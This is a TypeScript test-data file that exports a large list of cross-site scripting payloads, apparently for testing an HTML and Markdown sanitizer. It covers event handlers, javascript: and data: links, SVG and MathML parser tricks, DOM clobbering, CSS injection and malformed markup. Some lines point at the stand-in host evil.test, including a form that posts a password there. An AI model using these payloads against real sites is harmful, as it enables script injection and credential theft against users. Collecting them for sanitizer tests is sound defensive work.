// Test data: known payloads that run code, break out of their place or shadow the page, one per line, by kind.

const eventHandlers = String.raw`
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img/src=x/onerror=alert(1)>
<img src=x OnErRoR=alert(1)>
<img src=x onerror =alert(1)>
<img src=x onerror	=alert(1)>
<img src="x"onerror="alert(1)">
<img """><img src=x onerror=alert(1)>">
<img src='x' alt='a>b' onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=1>
<img srcset=x onerror=alert(1)>
<img src=x onload=alert(1) onmouseover=alert(1)>
<img src=1 onerror=&#97;lert(1)>
<img src=x on&#101;rror=alert(1)>
<img src=x =onerror=alert(1)>
<img src=x "onerror=alert(1)>
<body onload=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<input autofocus onfocus=alert(1)>
<input type=checkbox onchange=alert(1) checked>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<video><source onerror=alert(1)></video>
<picture><source onerror=alert(1) srcset=x><img onerror=alert(1)></picture>
<details open ontoggle=alert(1)>x</details>
<details ontoggle="alert(1)" open><summary onclick=alert(1)>x</summary></details>
<marquee onstart=alert(1)>x</marquee>
<div onpointerover=alert(1)>x</div>
<p onclick=alert(1) align=center>x</p>
<a href="https://x.y" onclick="alert(1)">x</a>
<a onmouseover=alert(1) href=#x>x</a>
<kbd id=x onfocus=alert(1) tabindex=1>x</kbd>
<h1 onmouseenter=alert(1)>x</h1>
<table onclick=alert(1)><tr onclick=alert(1)><td onclick=alert(1)>x</table>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</td></tr></table>
<details onbeforematch=alert(1) hidden=until-found>x</details>
<div onanimationstart=alert(1) style="animation-name:x">x</div>
<div style=animation-name:x onwebkitanimationend=alert(1)>x</div>
<button popovertarget=x>a</button><div popover id=x onbeforetoggle=alert(1)>x</div>
<xss contenteditable onblur=alert(1) tabindex=1 autofocus>x</xss>
<isindex type=image src=1 onerror=alert(1)>
<image src=x onerror=alert(1)>
<area onclick=alert(1) href=#>
<map name=x><area shape=default href=javascript:alert(1)></map><img usemap=#x src=/x>
<ol onclick=alert(1) start=1><li onclick=alert(1)>x</ol>
<iframe onload=alert(1) src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>
<object onerror=alert(1) data=x></object>
`;

const schemes = String.raw`
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](javascript&#58;alert(1))
[x](&#106;avascript:alert(1))
[x](java&Tab;script:alert(1))
[x](<javascript:alert(1)>)
[x](<java
script:alert(1)>)
[x]( javascript:alert(1))
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](blob:https://x.y/1)
[x](filesystem:https://x.y/1)
[x][1] then [1]: javascript:alert(1)
<javascript:alert(1)>
<vbscript:alert(1)>
<data:text/html,x>
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
![x](data:image/png;base64,AAAA)
![x](https://x.y/a.png"onerror="alert(1))
![x"onerror="alert(1)](https://x.y/a.png)
![x](https://x.y/a.png 'x"onerror="alert(1)')
[x](https://x.y "a" onclick="alert(1)")
[x](https://x.y/"onmouseover="alert(1))
<a href=javascript:alert(1)>x</a>
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x0A;java&#x09;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&#0;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="&#0000106&#0000097&#0000118ascript:alert(1)">x</a>
<a href="javascript://x.y/%0Aalert(1)">x</a>
<a href="javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>">x</a>
<a href="jav&#x61;script&#x3A;alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="view-source:https://x.y">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="ms-settings:x">x</a>
<a href=//evil.test>x</a>
<a href=/\evil.test>x</a>
<a href=\\evil.test>x</a>
<a href="https:evil.test">x</a>
<a href="https://tessera.test@evil.test/">x</a>
<a href="https://tessera.test%2F@evil.test/">x</a>
<a href="?next=javascript:alert(1)">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a href="https://x.y" ping="https://evil.test" target="_blank" download>x</a>
<a href="https://x.y" target=_top rel=opener>x</a>
<a href="mailto:a@b.c?body=x&attach=/etc/passwd">x</a>
<a href="mailto:%22><script>alert(1)</script>@b.c">x</a>
<img src="javascript:alert(1)">
<img src="data:text/html,x">
<img src="vbscript:x">
<img src="//evil.test/x.png" longdesc="javascript:alert(1)" dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">
<img src=/x srcset="javascript:alert(1) 1x, data:text/html,x 2x">
<picture><source srcset="javascript:alert(1)"><img src=/x></picture>
<picture><source srcset="data:image/svg+xml,<svg onload=alert(1)> 1x"><img src=/x></picture>
<blockquote cite="javascript:alert(1)">x</blockquote>
<q cite="javascript:alert(1)">x</q>
<del cite=javascript:alert(1) datetime=x>x</del>
`;

const foreign = String.raw`
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)" />
<svg><script xlink:href=data:,alert(1)></script>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><set attributeName=onmouseover to=alert(1)>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x"></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><!--</style><img src=x onerror=alert(1)>--></style>
<svg><desc><noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg><title><a id="</title><img src=x onerror=alert(1)>"></a></title></svg>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<svg><image href=x onerror=alert(1)></svg>
<svg><animatetransform onbegin=alert(1)>
<svg><discard onbegin=alert(1)>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#https://x" xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<math><mtext></p><svg><style><a title="</style><img src=x onerror=alert(1)>">
<table><math><mtext><style></table><img src=x onerror=alert(1)>
`;

const containers = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.test/x.js></SCRIPT>
<script/x>alert(1)</script/x>
<script >alert(1)</script >
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
</script><script>alert(1)</script>
<script><!--<script></script>--><img src=x onerror=alert(1)></script>
<script type=module>import "https://evil.test/x.js"</script>
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["https://evil.test"]}]}</script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<style>@import "https://evil.test/x.css";</style>
<style><img src="</style><img src=x onerror=alert(1)//">
<style>*{background:url(https://evil.test)}</style>
<link rel=stylesheet href=https://evil.test/x.css>
<link rel=import href=data:text/html,<script>alert(1)</script>>
<link rel=prerender href=https://evil.test>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0; url=https://evil.test">
<meta charset=utf-7>+ADw-script+AD4-alert(1)
<base href="https://evil.test/">
<base target=_blank>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=javascript:alert(1)></iframe>
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe src=https://evil.test></iframe>
<iframe src="https://www.youtube.com.evil.test/embed/dQw4w9WgXcQ"></iframe>
<iframe src="https://www.youtube.com@evil.test/embed/dQw4w9WgXcQ"></iframe>
<iframe src="https://www.youtube.com:8443/embed/dQw4w9WgXcQ"></iframe>
<iframe src="https://evil.test/https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>
<iframe src="https://www.youtube.com/embed/../redirect?q=x"></iframe>
<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ?start=1&origin=javascript:alert(1)" srcdoc=x></iframe>
<iframe src="http://discord.com/widget?id=123456789012345678"></iframe>
<iframe src="https://discord.com/widget?id=123456789012345678&theme=dark" sandbox="" allow="camera"></iframe>
<iframe src="https://discord.com/widget?id=1"></iframe>
<iframe><img src=x onerror=alert(1)></iframe>
<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"><script>alert(1)</script></iframe>
<object data=javascript:alert(1)></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<embed src=javascript:alert(1)>
<embed src=//evil.test/x.swf allowscriptaccess=always>
<applet code=x.class></applet>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<template><img src=x onerror=alert(1)></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style></template></div>
<textarea></textarea><img src=x onerror=alert(1)>
<textarea><img title="</textarea><img src=x onerror=alert(1)>">
<title><img title="</title><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><svg/onload=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<select><style></select><img src=x onerror=alert(1)></style>
<option><style></option></select><img src=x onerror=alert(1)></style>
<portal src=https://evil.test></portal>
<fencedframe src=https://evil.test></fencedframe>
<dialog open>sign in again</dialog>
<canvas id=x></canvas><keygen autofocus onfocus=alert(1)>
<slot name=x></slot><custom-element is=x></custom-element>
`;

const clobbering = String.raw`
<a id=location name=location href=https://evil.test>x</a>
<img name=cookie src=/x>
<img id=body src=/x>
<form id=document><input name=cookie></form>
<form name=body><input name=firstChild></form>
<h1 id=__proto__>x</h1>
<h1 id=constructor>x</h1>
<h2 id="x y" name=getElementById>x</h2>
<kbd id=currentScript>x</kbd>
<map name=defaultView><area href=#></map>
<iframe name=self src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>
<a id=x><a id=x name=y href=clobbered:1>x</a>
<object id=x name=y></object><embed name=z>
<p id=main tabindex=-1 role=alert aria-live=assertive slot=x part=x is=x>x</p>
<div class="fixed inset-0 dialog" style="position:fixed;inset:0;z-index:9999">x</div>
<span class="md-alert md-embed">x</span>
<code class="hljs md-anchor btn">x</code>
<p data-action=delete data-react-router=x itemprop=x xmlns=x xml:base=javascript:alert(1)>x</p>
`;

const forms = String.raw`
<form action=javascript:alert(1)><input type=submit></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form action=https://evil.test method=post><input name=password type=password></form>
<input type=image src=x formaction=javascript:alert(1)>
<input type=submit formaction=javascript:alert(1) value=x>
<input type=password name=password>
<input type=text value=x>
<button onclick=alert(1) form=login>x</button>
<button commandfor=x command=show-modal>x</button>
<label for=login>x</label><output onclick=alert(1)>x</output>
<fieldset><legend><input list=x><datalist id=x><option value=x></datalist></legend></fieldset>
`;

const styles = String.raw`
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="text-align:center;position:fixed;top:0">x</p>
<p style="text-align:center}*{display:none">x</p>
<p style="text-align:expression(alert(1))">x</p>
<p style="text-align:cen/**/ter;behavior:url(#x)">x</p>
<td style="background:url(https://evil.test)">x</td>
<img src=/x style="image-rendering:pixelated;list-style:url(https://evil.test)">
<img src=/x style="image-rendering:pixelated&quot;onerror=alert(1)">
<img src=/x style="float:left;-moz-binding:url(https://evil.test)">
<img src=/x width="100%;x" height="expression(alert(1))" align="x&quot;onerror=alert(1)">
<div style="@import 'https://evil.test'">x</div>
<font color="expression(alert(1))">x</font><basefont onclick=alert(1)>
`;

const broken =
  String.raw`
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!--a--!><img src=x onerror=alert(1)>-->
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!-- --\x3e<img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml-stylesheet href="javascript:alert(1)"?><?php echo 1 ?>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;
</ script><img src=x onerror=alert(1)>
</><img src=x onerror=alert(1)>
<img src=x onerror=alert(1)
<img src="x
<a href="x" <b onclick=alert(1)>x
<a title="</a><img src=x onerror=alert(1)>" href=/x>x</a>
<a title='"><img src=x onerror=alert(1)>' href=/x>x</a>
<img alt="&quot;><script>alert(1)</script>" src=/x>
<img alt="&lt;script&gt;alert(1)&lt;/script&gt;" src=/x>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\<script\>alert(1)\</script\>
<a<b onclick=alert(1)>x</a>
<div/onclick=alert(1)/style=x>x</div>
<b><p><b onclick=alert(1)></p></b></p>
<a href=/1><table><a href=javascript:alert(1)><td><a href=/2>x</table>
<table><td><table><a><caption><img src=x onerror=alert(1)></table>
<p><table><style><p title="</table><img src=x onerror=alert(1)>">
<a><b><a><i onclick=alert(1)><p></a></b></i>
<h1><h2><li><dd><p><table><tr><div onclick=alert(1)>
` +
  '<ruby><rt><rp><rt><img src=x onerror=alert(1)></ruby>\n<img src=x onerror\u0000=alert(1)>\n<scr\u0000ipt>alert(1)</script>\n<a href="java\u0000script:alert(1)">x</a>\n<a href="\u0001javascript:alert(1)">x</a>\n<img\u000bsrc=x\u000bonerror=alert(1)>\n<img\u000csrc=x\u000conerror=alert(1)>\n<\u0130mg src=x onerror=alert(1)>\n<\u017fcript>alert(1)</\u017fcript>';

const inMarkdown = String.raw`
> <img src=x onerror=alert(1)>
- <script>alert(1)</script>
# <img src=x onerror=alert(1)>
# [x](javascript:alert(1)) <a name=x onclick=alert(1)>y</a>
**<img src=x onerror=alert(1)>**
| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |
> [!NOTE] <img src=x onerror=alert(1)>
- [ ] <input onfocus=alert(1) autofocus>
- [x] " onclick="alert(1)
~~~js" onclick="alert(1)
~~~"><script>alert(1)</script>
https://x.y/"onmouseover="alert(1)
https://x.y/<script>alert(1)</script>
<https://x.y/"onmouseover="alert(1)>
<a href="https://x.y">[x](javascript:alert(1))</a>
[<img src=x onerror=alert(1)>](https://x.y)
[![x](javascript:alert(1))](javascript:alert(1))
[x]: javascript:alert(1) "x"
`;

const lines = [eventHandlers, schemes, foreign, containers, clobbering, forms, styles, broken, inMarkdown].flatMap(
  (kind) => kind.split("\n").filter((line) => line !== ""),
);

/** Payloads that span several lines. */
const blocks = [
  "~~~html\n<script>alert(1)</script>\n~~~",
  '~~~json\n{"a": "</code></pre><img src=x onerror=alert(1)>"}\n~~~',
  '~~~skript\nsend "</span><img src=x onerror=alert(1)>"\n~~~',
  "~~~mcfunction\nsay <img src=x onerror=alert(1)>\n~~~",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "[x][1]\n\n[1]: data:text/html,x",
  '![x][1]\n\n[1]: https://x.y/a.png "\\" onerror=alert(1)"',
  '<div title="\n\n<img src=x onerror=alert(1)>\n\n">',
  "<script>\n\n<b>alert(1)\n\n</script>\n\n<img src=x onerror=alert(1)>",
  "<pre><code class=language-html>&lt;script&gt;alert(1)</code></pre>",
  "<details>\n<summary onclick=alert(1)>x</summary>\n\n<img src=x onerror=alert(1)>\n\n</details>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "<p align=center>\n<iframe src='https://www.youtube.com/embed/dQw4w9WgXcQ' onload=alert(1)></iframe>\n</p>",
  "<a href=/x>\n\n## <img src=x onerror=alert(1)>\n\n</a>",
];

export const xssPayloads: readonly string[] = [...lines, ...blocks];
